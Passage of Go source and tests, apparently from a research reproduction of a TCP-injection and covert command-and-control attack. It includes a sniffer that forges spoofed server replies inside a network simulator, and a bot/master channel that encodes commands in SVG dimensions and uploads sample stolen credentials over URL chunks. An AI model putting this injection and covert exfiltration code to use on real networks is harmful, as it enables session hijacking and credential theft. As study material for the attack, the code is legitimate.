func NewSniffer(seg *netsim.Segment, delay time.Duration, fn func(Observed)) *Sniffer {
	s := &Sniffer{onTC: fn}
	s.tap = seg.AttachTap(delay, func(now time.Duration, pkt netsim.Packet) {
		if pkt.Proto != netsim.ProtoTCP {
			return
		}
		tseg, err := ParseSegment(pkt.Payload)
		if err != nil {
			return
		}
		if s.onTC != nil {
			s.onTC(Observed{Time: now, Src: pkt.Src, Dst: pkt.Dst, Seg: tseg})
		}
	})
	return s
}

// Tap exposes the underlying tap for injection.
func (s *Sniffer) Tap() *netsim.Tap { return s.tap }

// Stop detaches the sniffer's observation callback. The experiments use
// this to model the victim moving out of the attacker's radio range: the
// master no longer observes or injects, and only the C&C channel remains
// (§VI-C: "After the victim disconnects from the network on which the
// initial infection was made").
func (s *Sniffer) Stop() { s.onTC = nil }

// SpoofReply crafts the spoofed server→client data segment answering an
// observed client request: source and destination are swapped, the
// sequence number is the client's acknowledgement number (the next byte
// the client expects from the server) and the acknowledgement covers the
// client's request bytes. This is exactly the field adjustment described
// in §V ("these fields he can adjust from the HTTP request packets that
// the victim client sends").
func SpoofReply(req Observed, payload []byte) netsim.Packet {
	return SpoofReplyAt(req, 0, payload)
}

// SpoofSegment returns the header template of the spoofed reply to an
// observed request: correct ports, sequence and acknowledgement numbers,
// no payload. The master's injection loop stamps per-chunk Seq/Payload
// onto copies of the template and marshals each straight into a pooled
// frame.
func SpoofSegment(req Observed) Segment {
	return Segment{
		SrcPort: req.Seg.DstPort,
		DstPort: req.Seg.SrcPort,
		Seq:     req.Seg.Ack,
		Ack:     SeqAdd(req.Seg.Seq, len(req.Seg.Payload)),
		Flags:   FlagACK | FlagPSH,
		Window:  DefaultWindow,
	}
}

// SpoofReplyAt crafts a spoofed continuation segment at an explicit
// sequence offset past the observed request's acknowledgement point,
// allowing multi-segment injected responses.
func SpoofReplyAt(req Observed, offset int, payload []byte) netsim.Packet {
	seg := SpoofSegment(req)
	seg.Seq = SeqAdd(seg.Seq, offset)
	seg.Payload = payload
	return netsim.Packet{
		Src:     req.Dst, // impersonate the server
		Dst:     req.Src,
		Proto:   netsim.ProtoTCP,
		Payload: seg.Marshal(),
	}
}
