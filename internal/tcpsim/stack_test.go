package tcpsim

import (
	"bytes"
	"testing"
	"testing/quick"
	"time"

	"masterparasite/internal/netsim"
)

// lab builds a two-host network with a client and server stack and runs
// the handshake-capable event loop on demand.
type lab struct {
	net    *netsim.Network
	seg    *netsim.Segment
	client *Stack
	server *Stack
}

func newLab(t *testing.T, opts ...StackOption) *lab {
	t.Helper()
	n := netsim.New()
	seg := n.MustSegment("wifi", time.Millisecond)
	cIfc := seg.MustAttach("client", 0, nil)
	sIfc := seg.MustAttach("server", 5*time.Millisecond, nil)
	return &lab{
		net:    n,
		seg:    seg,
		client: NewStack(n, cIfc, append([]StackOption{WithSeed(7)}, opts...)...),
		server: NewStack(n, sIfc, append([]StackOption{WithSeed(11)}, opts...)...),
	}
}

func TestHandshakeAndEcho(t *testing.T) {
	l := newLab(t)
	var serverGot, clientGot []byte
	if err := l.server.Listen(80, func(c *Conn) {
		c.OnData(func(b []byte) {
			serverGot = append(serverGot, b...)
			if _, err := c.Write(bytes.ToUpper(b)); err != nil {
				t.Errorf("server write: %v", err)
			}
		})
	}); err != nil {
		t.Fatalf("Listen: %v", err)
	}
	conn, err := l.client.Dial("server", 80, func(c *Conn) {
		if _, err := c.Write([]byte("hello")); err != nil {
			t.Errorf("client write: %v", err)
		}
	})
	if err != nil {
		t.Fatalf("Dial: %v", err)
	}
	conn.OnData(func(b []byte) { clientGot = append(clientGot, b...) })
	l.net.Run(0)

	if string(serverGot) != "hello" {
		t.Fatalf("server got %q, want hello", serverGot)
	}
	if string(clientGot) != "HELLO" {
		t.Fatalf("client got %q, want HELLO", clientGot)
	}
	if conn.State() != StateEstablished {
		t.Fatalf("client state = %v, want ESTABLISHED", conn.State())
	}
}

func TestLargeTransferSplitsIntoMSS(t *testing.T) {
	l := newLab(t, WithMSS(100))
	payload := bytes.Repeat([]byte("x"), 1050)
	var got []byte
	if err := l.server.Listen(80, func(c *Conn) {
		c.OnData(func(b []byte) { got = append(got, b...) })
	}); err != nil {
		t.Fatalf("Listen: %v", err)
	}
	if _, err := l.client.Dial("server", 80, func(c *Conn) {
		if _, err := c.Write(payload); err != nil {
			t.Errorf("write: %v", err)
		}
	}); err != nil {
		t.Fatalf("Dial: %v", err)
	}
	l.net.Run(0)
	if !bytes.Equal(got, payload) {
		t.Fatalf("server got %d bytes, want %d intact", len(got), len(payload))
	}
}

func TestDialToNonListeningPortIgnored(t *testing.T) {
	l := newLab(t)
	connected := false
	if _, err := l.client.Dial("server", 9999, func(*Conn) { connected = true }); err != nil {
		t.Fatalf("Dial: %v", err)
	}
	l.net.Run(0)
	if connected {
		t.Fatal("connected to a non-listening port")
	}
}

func TestCloseDeliversOnClose(t *testing.T) {
	l := newLab(t)
	closed := false
	if err := l.server.Listen(80, func(c *Conn) {
		c.OnClose(func() { closed = true })
	}); err != nil {
		t.Fatalf("Listen: %v", err)
	}
	var clientConn *Conn
	if _, err := l.client.Dial("server", 80, func(c *Conn) {
		clientConn = c
		if err := c.Close(); err != nil {
			t.Errorf("close: %v", err)
		}
	}); err != nil {
		t.Fatalf("Dial: %v", err)
	}
	l.net.Run(0)
	if !closed {
		t.Fatal("server OnClose not fired")
	}
	if _, err := clientConn.Write([]byte("x")); err == nil {
		// Client is in FIN_WAIT; writing after close should still work at
		// this simplified layer only until teardown, but once the peer's
		// FIN+ACK arrives the conn closes. Accept either, but a closed
		// conn must refuse writes.
		if clientConn.State() == StateClosed {
			t.Fatal("write on closed connection succeeded")
		}
	}
}

func TestInjectionFirstWins(t *testing.T) {
	// The eavesdropper observes the client's request and injects a forged
	// response that arrives before the genuine one. Under first-wins the
	// client application must see only the forged bytes, and the genuine
	// response must be counted as duplicate.
	l := newLab(t)
	forged := []byte("FORGED-RESPONSE")
	genuine := []byte("GENUINE-PAYLOAD") // same length: full overlap

	if err := l.server.Listen(80, func(c *Conn) {
		c.OnData(func([]byte) {
			if _, err := c.Write(genuine); err != nil {
				t.Errorf("server write: %v", err)
			}
		})
	}); err != nil {
		t.Fatalf("Listen: %v", err)
	}

	var sniffer *Sniffer
	sniffer = NewSniffer(l.seg, 0, func(o Observed) {
		// React to the client's HTTP-like request (data toward port 80).
		if o.Seg.DstPort == 80 && len(o.Seg.Payload) > 0 {
			sniffer.Tap().Inject(SpoofReply(o, forged))
		}
	})

	var got []byte
	var clientConn *Conn
	if _, err := l.client.Dial("server", 80, func(c *Conn) {
		clientConn = c
		c.OnData(func(b []byte) { got = append(got, b...) })
		if _, err := c.Write([]byte("GET / HTTP/1.1\r\n\r\n")); err != nil {
			t.Errorf("client write: %v", err)
		}
	}); err != nil {
		t.Fatalf("Dial: %v", err)
	}
	l.net.Run(0)

	if !bytes.Equal(got, forged) {
		t.Fatalf("client got %q, want forged %q", got, forged)
	}
	if clientConn.Stats().DuplicateBytes != len(genuine) {
		t.Fatalf("duplicate bytes = %d, want %d (genuine response discarded)",
			clientConn.Stats().DuplicateBytes, len(genuine))
	}
}

func TestInjectionLastWinsAblation(t *testing.T) {
	// Under last-wins, bytes already delivered to the application cannot
	// be replaced, so injection still sticks when the forged segment is
	// delivered (and drained) first. The last-wins policy only changes the
	// fate of *buffered* (out-of-order) overlaps. Verify the ablation
	// machinery: an out-of-order overlap is overwritten.
	l := newLab(t, WithReassembly(LastWins))
	if err := l.server.Listen(80, func(*Conn) {}); err != nil {
		t.Fatalf("Listen: %v", err)
	}
	var conn *Conn
	if _, err := l.client.Dial("server", 80, func(c *Conn) { conn = c }); err != nil {
		t.Fatalf("Dial: %v", err)
	}
	l.net.Run(0)
	if conn == nil || conn.State() != StateEstablished {
		t.Fatal("handshake failed")
	}
	// Deliver an out-of-order byte at rcvNxt+1, twice with different
	// content; under last-wins the second wins once the gap fills.
	base := conn.RcvNxt()
	conn.handle(Segment{SrcPort: conn.RemotePort(), DstPort: conn.LocalPort(),
		Seq: SeqAdd(base, 1), Flags: FlagACK, Payload: []byte("A")})
	conn.handle(Segment{SrcPort: conn.RemotePort(), DstPort: conn.LocalPort(),
		Seq: SeqAdd(base, 1), Flags: FlagACK, Payload: []byte("B")})
	var got []byte
	conn.OnData(func(b []byte) { got = append(got, b...) })
	conn.handle(Segment{SrcPort: conn.RemotePort(), DstPort: conn.LocalPort(),
		Seq: base, Flags: FlagACK, Payload: []byte("x")})
	if string(got) != "xB" {
		t.Fatalf("got %q, want xB (last-wins overwrite)", got)
	}
	if conn.Stats().OverwrittenByte != 1 {
		t.Fatalf("overwritten = %d, want 1", conn.Stats().OverwrittenByte)
	}
}

func TestFirstWinsBufferedOverlap(t *testing.T) {
	l := newLab(t)
	if err := l.server.Listen(80, func(*Conn) {}); err != nil {
		t.Fatalf("Listen: %v", err)
	}
	var conn *Conn
	if _, err := l.client.Dial("server", 80, func(c *Conn) { conn = c }); err != nil {
		t.Fatalf("Dial: %v", err)
	}
	l.net.Run(0)
	base := conn.RcvNxt()
	conn.handle(Segment{SrcPort: conn.RemotePort(), DstPort: conn.LocalPort(),
		Seq: SeqAdd(base, 1), Flags: FlagACK, Payload: []byte("A")})
	conn.handle(Segment{SrcPort: conn.RemotePort(), DstPort: conn.LocalPort(),
		Seq: SeqAdd(base, 1), Flags: FlagACK, Payload: []byte("B")})
	var got []byte
	conn.OnData(func(b []byte) { got = append(got, b...) })
	conn.handle(Segment{SrcPort: conn.RemotePort(), DstPort: conn.LocalPort(),
		Seq: base, Flags: FlagACK, Payload: []byte("x")})
	if string(got) != "xA" {
		t.Fatalf("got %q, want xA (first-wins keeps original)", got)
	}
}

func TestOutOfWindowSegmentRejected(t *testing.T) {
	l := newLab(t)
	if err := l.server.Listen(80, func(*Conn) {}); err != nil {
		t.Fatalf("Listen: %v", err)
	}
	var conn *Conn
	if _, err := l.client.Dial("server", 80, func(c *Conn) { conn = c }); err != nil {
		t.Fatalf("Dial: %v", err)
	}
	l.net.Run(0)
	delivered := false
	conn.OnData(func([]byte) { delivered = true })
	// A blind off-path attacker who guesses a wildly wrong sequence
	// number is rejected by the window check.
	conn.handle(Segment{SrcPort: conn.RemotePort(), DstPort: conn.LocalPort(),
		Seq: SeqAdd(conn.RcvNxt(), -200000), Flags: FlagACK, Payload: []byte("evil")})
	if delivered {
		t.Fatal("out-of-window payload delivered")
	}
	if conn.Stats().OutOfWindow != 1 {
		t.Fatalf("out-of-window count = %d, want 1", conn.Stats().OutOfWindow)
	}
}

func TestWrongFourTupleIgnored(t *testing.T) {
	l := newLab(t)
	if err := l.server.Listen(80, func(*Conn) {}); err != nil {
		t.Fatalf("Listen: %v", err)
	}
	var conn *Conn
	if _, err := l.client.Dial("server", 80, func(c *Conn) { conn = c }); err != nil {
		t.Fatalf("Dial: %v", err)
	}
	l.net.Run(0)
	delivered := false
	conn.OnData(func([]byte) { delivered = true })
	// Inject a data packet claiming to be from a different source port:
	// no connection matches, so the stack drops it.
	tap := l.seg.AttachTap(0, nil)
	seg := Segment{SrcPort: 81, DstPort: conn.LocalPort(), Seq: conn.RcvNxt(),
		Flags: FlagACK | FlagPSH, Payload: []byte("evil")}
	tap.Inject(netsim.Packet{Src: "server", Dst: "client", Proto: netsim.ProtoTCP, Payload: seg.Marshal()})
	l.net.Run(0)
	if delivered {
		t.Fatal("segment with wrong 4-tuple delivered")
	}
}

func TestRSTTearsDownConnection(t *testing.T) {
	l := newLab(t)
	if err := l.server.Listen(80, func(*Conn) {}); err != nil {
		t.Fatalf("Listen: %v", err)
	}
	var conn *Conn
	if _, err := l.client.Dial("server", 80, func(c *Conn) { conn = c }); err != nil {
		t.Fatalf("Dial: %v", err)
	}
	l.net.Run(0)
	conn.handle(Segment{SrcPort: conn.RemotePort(), DstPort: conn.LocalPort(),
		Seq: conn.RcvNxt(), Flags: FlagRST})
	if conn.State() != StateClosed {
		t.Fatalf("state = %v after RST, want CLOSED", conn.State())
	}
}

func TestSegmentMarshalRoundTrip(t *testing.T) {
	f := func(srcPort, dstPort uint16, seq, ack uint32, flags uint8, window uint16, payload []byte) bool {
		in := Segment{
			SrcPort: srcPort, DstPort: dstPort, Seq: seq, Ack: ack,
			Flags:  Flags(flags) & (FlagSYN | FlagACK | FlagFIN | FlagRST | FlagPSH),
			Window: window, Payload: payload,
		}
		out, err := ParseSegment(in.Marshal())
		if err != nil {
			return false
		}
		return out.SrcPort == in.SrcPort && out.DstPort == in.DstPort &&
			out.Seq == in.Seq && out.Ack == in.Ack && out.Flags == in.Flags &&
			out.Window == in.Window && bytes.Equal(out.Payload, in.Payload)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestParseShortSegment(t *testing.T) {
	if _, err := ParseSegment(make([]byte, 5)); err == nil {
		t.Fatal("short segment parsed without error")
	}
}

func TestSeqArithmeticProperties(t *testing.T) {
	// SeqLT is a strict order on windows < 2^31 and respects wraparound.
	f := func(a uint32, n uint16) bool {
		if n == 0 {
			return !SeqLT(a, a) && SeqLEQ(a, a)
		}
		b := SeqAdd(a, int(n))
		return SeqLT(a, b) && !SeqLT(b, a) && SeqDiff(a, b) == int(n)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

func TestSeqWraparound(t *testing.T) {
	near := uint32(0xFFFFFFF0)
	after := SeqAdd(near, 0x20)
	if !SeqLT(near, after) {
		t.Fatal("SeqLT fails across wraparound")
	}
	if SeqDiff(near, after) != 0x20 {
		t.Fatalf("SeqDiff = %d, want 32", SeqDiff(near, after))
	}
	if !InWindow(after, near, 0x40) {
		t.Fatal("InWindow fails across wraparound")
	}
}

func TestInWindow(t *testing.T) {
	cases := []struct {
		seq, lo uint32
		size    int
		want    bool
	}{
		{100, 100, 10, true},
		{109, 100, 10, true},
		{110, 100, 10, false},
		{99, 100, 10, false},
	}
	for _, c := range cases {
		if got := InWindow(c.seq, c.lo, c.size); got != c.want {
			t.Errorf("InWindow(%d,%d,%d) = %v, want %v", c.seq, c.lo, c.size, got, c.want)
		}
	}
}

func TestFlagsString(t *testing.T) {
	if s := (FlagSYN | FlagACK).String(); s != "SYN|ACK" {
		t.Fatalf("flags string = %q", s)
	}
	if s := Flags(0).String(); s != "none" {
		t.Fatalf("zero flags string = %q", s)
	}
}

func TestDuplicateListenRejected(t *testing.T) {
	l := newLab(t)
	if err := l.server.Listen(80, func(*Conn) {}); err != nil {
		t.Fatalf("Listen: %v", err)
	}
	if err := l.server.Listen(80, func(*Conn) {}); err == nil {
		t.Fatal("duplicate listen succeeded")
	}
}

func TestSpoofReplyFields(t *testing.T) {
	req := Observed{
		Src: "client", Dst: "server",
		Seg: Segment{SrcPort: 50000, DstPort: 80, Seq: 1000, Ack: 555,
			Payload: []byte("GET /")},
	}
	pkt := SpoofReply(req, []byte("HTTP/1.1 200 OK"))
	if pkt.Src != "server" || pkt.Dst != "client" {
		t.Fatalf("addressing = %s->%s", pkt.Src, pkt.Dst)
	}
	seg, err := ParseSegment(pkt.Payload)
	if err != nil {
		t.Fatal(err)
	}
	if seg.SrcPort != 80 || seg.DstPort != 50000 {
		t.Fatalf("ports = %d->%d", seg.SrcPort, seg.DstPort)
	}
	if seg.Seq != 555 {
		t.Fatalf("seq = %d, want client's ack 555", seg.Seq)
	}
	if seg.Ack != 1005 {
		t.Fatalf("ack = %d, want 1005 (request fully acked)", seg.Ack)
	}
}

func TestSpoofReplyAtOffset(t *testing.T) {
	req := Observed{Src: "c", Dst: "s", Seg: Segment{SrcPort: 1, DstPort: 2, Seq: 10, Ack: 100}}
	pkt := SpoofReplyAt(req, 1460, []byte("part2"))
	seg, err := ParseSegment(pkt.Payload)
	if err != nil {
		t.Fatal(err)
	}
	if seg.Seq != 100+1460 {
		t.Fatalf("seq = %d, want %d", seg.Seq, 100+1460)
	}
}

func TestStateStrings(t *testing.T) {
	for s, want := range map[State]string{
		StateSynSent: "SYN_SENT", StateSynReceived: "SYN_RECEIVED",
		StateEstablished: "ESTABLISHED", StateFinWait: "FIN_WAIT",
		StateClosed: "CLOSED", State(0): "UNKNOWN",
	} {
		if s.String() != want {
			t.Errorf("State(%d) = %q, want %q", s, s.String(), want)
		}
	}
}

func TestPolicyStrings(t *testing.T) {
	if FirstWins.String() != "first-wins" || LastWins.String() != "last-wins" {
		t.Fatal("policy strings wrong")
	}
	if ReassemblyPolicy(0).String() != "unknown" {
		t.Fatal("zero policy string wrong")
	}
}

// TestSegmentMarshalAllocs locks the wire codec at its one-allocation
// floor. Skipped in -short mode: the CI race detector perturbs counts.
func TestSegmentMarshalAllocs(t *testing.T) {
	if testing.Short() {
		t.Skip("allocation counts shift under -race; tier-1 runs this")
	}
	seg := Segment{SrcPort: 50000, DstPort: 80, Seq: 1000, Ack: 2000,
		Flags: FlagACK | FlagPSH, Payload: bytes.Repeat([]byte("p"), 1460)}
	got := testing.AllocsPerRun(500, func() {
		if len(seg.Marshal()) == 0 {
			t.Fatal("empty marshal")
		}
	})
	if got > 1 {
		t.Errorf("Segment.Marshal allocs/op = %.0f, want 1", got)
	}
}

// TestSegmentRoundTripAllocs locks the steady-state transport data plane:
// a full data segment marshalled into a pooled netsim frame, delivered,
// ingested in order, and acknowledged — with zero allocations per round
// trip. Skipped in -short mode: the CI race detector perturbs counts.
func TestSegmentRoundTripAllocs(t *testing.T) {
	if testing.Short() {
		t.Skip("allocation counts shift under -race; tier-1 runs this")
	}
	net := netsim.New()
	seg := net.MustSegment("lan", time.Millisecond)
	a := NewStack(net, seg.MustAttach("a", 0, nil), WithSeed(1))
	b := NewStack(net, seg.MustAttach("b", 0, nil), WithSeed(2))
	received := 0
	if err := b.Listen(80, func(c *Conn) {
		c.OnData(func(data []byte) { received += len(data) })
	}); err != nil {
		t.Fatal(err)
	}
	var conn *Conn
	if _, err := a.Dial("b", 80, func(c *Conn) { conn = c }); err != nil {
		t.Fatal(err)
	}
	net.Run(0)
	if conn == nil || conn.State() != StateEstablished {
		t.Fatal("handshake did not complete")
	}
	payload := bytes.Repeat([]byte("p"), DefaultMSS)
	send := func() {
		if _, err := conn.Write(payload); err != nil {
			t.Fatal(err)
		}
		net.Run(0)
	}
	for i := 0; i < 16; i++ {
		send() // warm the frame pool and event slab
	}
	before := received
	allocs := testing.AllocsPerRun(200, send)
	if allocs > 0 {
		t.Errorf("segment round-trip allocs/op = %.1f, want 0", allocs)
	}
	if received <= before {
		t.Fatal("no data delivered during measurement")
	}
}
