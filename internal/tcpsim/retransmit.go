package tcpsim

import "time"

// Retransmission defaults. The base RTO is comfortably above the
// simulation's worst-case clean round trip (~24ms through the scenario
// web farm), so a clean wire never fires a spurious retransmission and
// enabling the machinery leaves clean-run wire bytes untouched.
const (
	// DefaultRTO is the initial retransmission timeout.
	DefaultRTO = 50 * time.Millisecond
	// MaxRTO caps the exponential backoff.
	MaxRTO = 800 * time.Millisecond
	// DefaultMaxRetries is how many consecutive timeouts a connection
	// survives before giving up and tearing down.
	DefaultMaxRetries = 12
	// DupAckThreshold is the number of duplicate ACKs that triggers a
	// fast retransmit of the oldest unacknowledged segment.
	DupAckThreshold = 3
)

// WithRetransmit enables the retransmission state machine: every
// sequence-consuming segment (SYN, FIN, data) is queued until
// acknowledged, an RTO timer with exponential backoff re-sends the
// oldest outstanding segment, and duplicate ACKs trigger fast
// retransmit. Off by default — the perfect-wire experiments predate it
// and their recorded wire bytes must not change.
func WithRetransmit() StackOption {
	return func(s *Stack) { s.retransmit = true }
}

// WithRTO overrides the base retransmission timeout (tests use short
// timeouts to keep virtual time compact).
func WithRTO(d time.Duration) StackOption {
	return func(s *Stack) {
		if d > 0 {
			s.rto = d
		}
	}
}

// WithISN pins the initial send sequence number of every connection the
// stack opens or accepts, instead of drawing it from the seeded RNG.
// The wraparound soak starts just below 2^32 so live transfers cross
// the modular boundary.
func WithISN(isn uint32) StackOption {
	return func(s *Stack) {
		v := isn
		s.isnOverride = &v
	}
}

// rtxSeg is one unacknowledged sequence-consuming segment awaiting
// either an ACK or a retransmission. The payload is copied: callers may
// reuse their buffers the moment Write returns.
type rtxSeg struct {
	seq     uint32
	flags   Flags
	payload []byte
	seqLen  int // sequence space consumed: len(payload), +1 for SYN/FIN
}

// seqConsumed reports how much sequence space a segment occupies; only
// occupying segments are retransmittable (pure ACKs are not).
func seqConsumed(seg Segment) int {
	n := len(seg.Payload)
	if seg.Flags&(FlagSYN|FlagFIN) != 0 {
		n++
	}
	return n
}

// track queues a sequence-consuming segment for possible retransmission
// and arms the RTO timer if the queue was empty.
func (c *Conn) track(seg Segment, seqLen int) {
	var pay []byte
	if len(seg.Payload) > 0 {
		pay = append([]byte(nil), seg.Payload...)
	}
	c.rtxQ = append(c.rtxQ, rtxSeg{seq: seg.Seq, flags: seg.Flags, payload: pay, seqLen: seqLen})
	if len(c.rtxQ) == 1 {
		c.rtoBackoff = 0
		c.retries = 0
		c.armTimer()
	}
}

// armTimer schedules the next RTO expiry. Bumping timerEpoch first
// invalidates every previously scheduled expiry: netsim events cannot
// be cancelled, so stale timers fire as no-ops.
func (c *Conn) armTimer() {
	c.timerEpoch++
	epoch := c.timerEpoch
	d := c.stack.rto << c.rtoBackoff
	if d > MaxRTO || d <= 0 {
		d = MaxRTO
	}
	c.stack.net.Schedule(d, func() { c.onTimeout(epoch) })
}

// onTimeout is one RTO expiry: retransmit the oldest outstanding
// segment with doubled backoff, or give up past the retry cap.
func (c *Conn) onTimeout(epoch int) {
	if epoch != c.timerEpoch || c.state == StateClosed || len(c.rtxQ) == 0 {
		return
	}
	c.retries++
	if c.retries > c.stack.maxRetries {
		// The peer is unreachable: local teardown, no FIN (it would not
		// arrive either).
		c.teardown()
		return
	}
	c.stats.Timeouts++
	if c.rtoBackoff < 6 {
		c.rtoBackoff++
	}
	c.retransmitFirst()
	c.armTimer()
}

// retransmitFirst re-sends the oldest unacknowledged segment, stamping
// the current cumulative ACK.
func (c *Conn) retransmitFirst() {
	e := c.rtxQ[0]
	c.stats.Retransmits++
	flags := e.flags
	seg := Segment{Flags: flags, Seq: e.seq, Window: DefaultWindow, Payload: e.payload}
	if flags&FlagACK != 0 || c.state == StateEstablished || c.state == StateFinWait {
		seg.Ack = c.rcvNxt
	}
	c.transmitSegment(seg)
}

// processAck advances the send window on a cumulative ACK: fully
// acknowledged segments leave the retransmission queue, backoff resets,
// and the timer re-arms for whatever is still outstanding. An exact
// duplicate ACK (no payload, no window progress) counts toward fast
// retransmit — the receiver is telling us which byte it is stuck on.
func (c *Conn) processAck(ack uint32, hasPayload bool) {
	if SeqLT(c.sndUna, ack) && SeqLEQ(ack, c.sndNxt) {
		c.sndUna = ack
		keep := c.rtxQ[:0]
		for _, e := range c.rtxQ {
			if SeqLT(ack, SeqAdd(e.seq, e.seqLen)) {
				keep = append(keep, e)
			}
		}
		c.rtxQ = keep
		c.dupAcks = 0
		c.retries = 0
		c.rtoBackoff = 0
		if len(c.rtxQ) > 0 {
			c.armTimer()
		} else {
			c.timerEpoch++ // disarm: pending expiries become no-ops
		}
		return
	}
	if ack == c.sndUna && len(c.rtxQ) > 0 && !hasPayload {
		c.dupAcks++
		if c.dupAcks >= DupAckThreshold {
			c.dupAcks = 0
			c.stats.FastRetransmits++
			c.retransmitFirst()
		}
	}
}
