package cnc

import (
	"bytes"
	"context"
	"testing"
	"testing/quick"
	"time"
)

func TestDimsRoundTrip(t *testing.T) {
	for _, msg := range [][]byte{nil, {}, []byte("x"), []byte("abcd"), []byte("hello world, this is the master speaking")} {
		dims := EncodeDims(msg)
		got, err := DecodeDims(dims)
		if err != nil {
			t.Fatalf("decode %q: %v", msg, err)
		}
		if !bytes.Equal(got, msg) {
			t.Fatalf("round trip %q -> %q", msg, got)
		}
	}
}

func TestDimsRoundTripProperty(t *testing.T) {
	f := func(msg []byte) bool {
		got, err := DecodeDims(EncodeDims(msg))
		return err == nil && bytes.Equal(got, msg)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestImagesNeededMatchesEncoder(t *testing.T) {
	for n := 0; n < 64; n++ {
		msg := bytes.Repeat([]byte("a"), n)
		if got, want := len(EncodeDims(msg)), ImagesNeeded(n); got != want {
			t.Fatalf("n=%d: encoder %d images, ImagesNeeded %d", n, got, want)
		}
	}
}

func TestFourBytesPerImage(t *testing.T) {
	// 60 payload bytes + 4 length prefix = 64 bytes = 16 images.
	if got := len(EncodeDims(make([]byte, 60))); got != 16 {
		t.Fatalf("images = %d, want 16", got)
	}
}

func TestDecodeTruncated(t *testing.T) {
	dims := EncodeDims([]byte("a long enough message"))
	if _, err := DecodeDims(dims[:2]); err == nil {
		t.Fatal("truncated stream decoded")
	}
	if _, err := DecodeDims(nil); err == nil {
		t.Fatal("empty stream decoded")
	}
}

func TestClamp(t *testing.T) {
	cases := map[int]uint16{-5: 0, 0: 0, 100: 100, 65535: 65535, 70000: 65535}
	for in, want := range cases {
		if got := Clamp(in); got != want {
			t.Errorf("Clamp(%d) = %d, want %d", in, got, want)
		}
	}
}

func TestSVGRoundTripAndSize(t *testing.T) {
	d := Dim{W: 513, H: 65535}
	svg := RenderSVG(d)
	// The paper: "An SVG image, having no actual content, is of size 100
	// bytes" — ours must stay in that ballpark for the overhead math.
	if len(svg) > 120 {
		t.Fatalf("svg size = %d bytes, want ≤120", len(svg))
	}
	got, err := ParseSVG(svg)
	if err != nil {
		t.Fatal(err)
	}
	if got != d {
		t.Fatalf("round trip %+v -> %+v", d, got)
	}
}

func TestSVGDimRoundTripProperty(t *testing.T) {
	f := func(w, h uint16) bool {
		got, err := ParseSVG(RenderSVG(Dim{W: w, H: h}))
		return err == nil && got == Dim{W: w, H: h}
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestParseSVGClampsOversize(t *testing.T) {
	svg := []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="70000" height="3"></svg>`)
	d, err := ParseSVG(svg)
	if err != nil {
		t.Fatal(err)
	}
	if d.W != MaxDim {
		t.Fatalf("width = %d, want clamped %d", d.W, MaxDim)
	}
}

func TestParseSVGRejectsGarbage(t *testing.T) {
	if _, err := ParseSVG([]byte("<html>not an svg</html>")); err == nil {
		t.Fatal("garbage parsed as SVG")
	}
}

func TestURLChunksRoundTrip(t *testing.T) {
	data := bytes.Repeat([]byte("credential-dump "), 200) // 3200 bytes
	chunks := EncodeURLChunks(data, 1024)
	if len(chunks) != 4 {
		t.Fatalf("chunks = %d, want 4", len(chunks))
	}
	var got []byte
	for _, c := range chunks {
		part, err := DecodeURLChunk(c)
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, part...)
	}
	if !bytes.Equal(got, data) {
		t.Fatal("upstream round trip corrupted")
	}
}

func TestURLChunksRoundTripProperty(t *testing.T) {
	f := func(data []byte, size uint8) bool {
		chunks := EncodeURLChunks(data, int(size))
		var got []byte
		for _, c := range chunks {
			part, err := DecodeURLChunk(c)
			if err != nil {
				return false
			}
			got = append(got, part...)
		}
		return bytes.Equal(got, data) || (len(data) == 0 && len(got) == 0)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestURLChunkRejectsBadBase64(t *testing.T) {
	if _, err := DecodeURLChunk("!!!not-base64!!!"); err == nil {
		t.Fatal("bad chunk decoded")
	}
}

func TestMasterBotEndToEnd(t *testing.T) {
	master := NewMasterServer()
	base, shutdown, err := master.Serve()
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := shutdown(); err != nil {
			t.Errorf("shutdown: %v", err)
		}
	}()

	bot := &Bot{BaseURL: base, ID: "bot-1", Concurrency: 4}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()

	// Nothing pending yet.
	if _, _, ok, err := bot.Poll(ctx); err != nil || ok {
		t.Fatalf("empty poll: ok=%v err=%v", ok, err)
	}

	// Downstream command.
	cmd := []byte(`{"module":"steal-login","target":"bank.com"}`)
	id := master.QueueCommand("bot-1", cmd)
	got, gotID, ok, err := bot.Poll(ctx)
	if err != nil || !ok {
		t.Fatalf("poll: ok=%v err=%v", ok, err)
	}
	if gotID != id || !bytes.Equal(got, cmd) {
		t.Fatalf("poll got id=%d %q", gotID, got)
	}

	// Same command not re-delivered.
	if _, _, ok, err := bot.Poll(ctx); err != nil || ok {
		t.Fatalf("re-poll: ok=%v err=%v", ok, err)
	}

	// Upstream exfiltration.
	loot := bytes.Repeat([]byte("user=alice&pass=hunter2;"), 300)
	if err := bot.Upload(ctx, "creds", loot); err != nil {
		t.Fatalf("upload: %v", err)
	}
	up, ok := master.Upload("bot-1", "creds")
	if !ok || !bytes.Equal(up, loot) {
		t.Fatalf("master upload: ok=%v len=%d want %d", ok, len(up), len(loot))
	}
	if streams := master.Streams("bot-1"); len(streams) != 1 || streams[0] != "creds" {
		t.Fatalf("streams = %v", streams)
	}
	if bots := master.Bots(); len(bots) != 1 || bots[0] != "bot-1" {
		t.Fatalf("bots = %v", bots)
	}
}

func TestMasterLargeCommandManyImages(t *testing.T) {
	master := NewMasterServer()
	base, shutdown, err := master.Serve()
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = shutdown() }()
	cmd := bytes.Repeat([]byte("X"), 8192) // 2049 images
	master.QueueCommand("b", cmd)
	bot := &Bot{BaseURL: base, ID: "b", Concurrency: 16}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	got, _, ok, err := bot.Poll(ctx)
	if err != nil || !ok {
		t.Fatalf("poll: %v", err)
	}
	if !bytes.Equal(got, cmd) {
